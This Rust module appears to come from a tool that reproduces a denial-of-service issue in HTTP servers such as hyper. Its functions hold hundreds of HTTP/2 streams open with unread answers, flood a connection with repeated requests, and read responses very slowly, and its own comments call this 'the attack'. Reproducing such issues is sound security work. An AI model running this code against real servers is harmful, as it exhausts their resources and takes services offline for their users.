//! Answers that are requested and never read.

use std::io::{self, Write as _};
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use super::{Connection, Protocol, Request, Target, each, http2};

/// The most that hyper accepts on one connection is 200; the measurements of the issue were made with this number.
pub const STREAMS: u32 = 195;

/// HTTP/2 connections with all streams waiting for the answer to `request`, each of which may send no more than
/// `window`. Nothing is read, not even what the window allows.
pub fn over_http2(
    target: &Target,
    request: &Request,
    connections: u32,
    window: u32,
) -> Vec<Connection> {
    over_streams(target, request, (connections, STREAMS), window)
}

/// The same, with this many connections and streams on each: a proxy ends a connection with more than it accepts.
pub fn over_streams(
    target: &Target,
    request: &Request,
    (connections, streams): (u32, u32),
    window: u32,
) -> Vec<Connection> {
    let mut bytes = http2::preface(window);
    for number in 0..streams {
        bytes.extend(http2::head(http2::stream(number), request, false));
    }
    each(connections, |number| {
        let mut connection = target.connect(number, Protocol::Http2)?;
        connection.write_all(&bytes)?;
        Ok(connection)
    })
}

/// HTTP/1.1 connections, each with one request whose answer is not read.
pub fn over_http1(target: &Target, request: &Request, connections: u32) -> Vec<Connection> {
    let head = request.head("");
    each(connections, |number| {
        let mut connection = target.connect(number, Protocol::Http1)?;
        connection.write_all(head.as_bytes())?;
        Ok(connection)
    })
}

/// The interval between the requests of a client that does not stop asking.
const AGAIN: Duration = Duration::from_millis(20);

/// Sends requests on one HTTP/2 connection until it ends, and reads the answers.
pub struct Asking(Arc<AtomicU32>);

impl Asking {
    /// How many requests it has sent so far.
    pub fn asked(&self) -> u32 {
        self.0.load(Ordering::Relaxed)
    }
}

/// A client that sends `request` again and again, whatever the server answers. On return it has started.
pub fn asking_again_and_again(target: &Target, request: &Request) -> io::Result<Asking> {
    let Connection::Clear(mut sender) = target.connect(0, Protocol::Http2)? else {
        return Err(io::Error::other("the attack is in clear"));
    };
    sender.write_all(&http2::preface(http2::WIDE))?;
    super::read_in_background(Connection::Clear(sender.try_clone()?));
    let asked = Arc::<AtomicU32>::default();
    let (count, request) = (Arc::clone(&asked), request.clone());
    std::thread::spawn(move || {
        for number in 0.. {
            let head = http2::head(http2::stream(number), &request, false);
            if sender.write_all(&head).is_err() {
                return;
            }
            count.fetch_add(1, Ordering::Relaxed);
            std::thread::sleep(AGAIN);
        }
    });
    let asking = Asking(asked);
    while asking.asked() < 5 {
        std::thread::sleep(AGAIN);
    }
    Ok(asking)
}

/// A client that reads the answer to `request` at five kilobytes a second, for a minute at most. On return some has come.
pub fn reading_slowly(target: &Target, request: &Request) -> io::Result<()> {
    const KILOBYTE: u32 = 1024;
    let Connection::Clear(mut sender) = target.connect(0, Protocol::Http2)? else {
        return Err(io::Error::other("the attack is in clear"));
    };
    sender.write_all(&http2::preface(KILOBYTE))?;
    sender.write_all(&http2::head(http2::stream(0), request, false))?;
    http2::wait_for_data(&mut sender)?;
    super::read_in_background(Connection::Clear(sender.try_clone()?));
    std::thread::spawn(move || {
        for _ in 0..300 {
            std::thread::sleep(Duration::from_millis(200));
            for stream in [0, http2::stream(0)] {
                if sender.write_all(&http2::wider(stream, KILOBYTE)).is_err() {
                    return;
                }
            }
        }
    });
    Ok(())
}
